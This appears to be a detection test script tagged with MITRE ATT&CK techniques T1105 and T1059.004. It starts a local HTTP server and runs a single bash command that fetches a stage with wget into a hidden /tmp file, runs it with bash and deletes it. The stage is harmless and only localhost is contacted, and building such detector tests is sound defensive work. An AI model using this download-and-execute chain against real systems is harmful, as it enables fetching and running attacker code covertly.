# technique: T1105 T1059.004
"""wget -O- … into a file in /tmp, then bash it, as one subprocess argv (T1105, T1059.004).

Download and run are chained in a single "bash -c" command given to
subprocess as argv: wget writes the stage to a /tmp name with a leading
dot, bash runs it, rm removes it. Python starts one bash process and sees
nothing else.

A good detector raises a high alert: a command line that downloads a file
into a world-writable place and runs it with a shell.
"""
import http.server
import subprocess
import threading

stage = b"echo wget stage ran; uname -m\n"


class Repo(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(stage)))
        self.end_headers()
        self.wfile.write(stage)

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Repo)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = "http://127.0.0.1:%d/s" % server.server_address[1]
command = "f=/tmp/.X11-$$; wget -q -T 5 -O $f %s && bash $f; rm -f $f" % url
result = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=5)
server.shutdown()
print(result.returncode, result.stdout.strip())
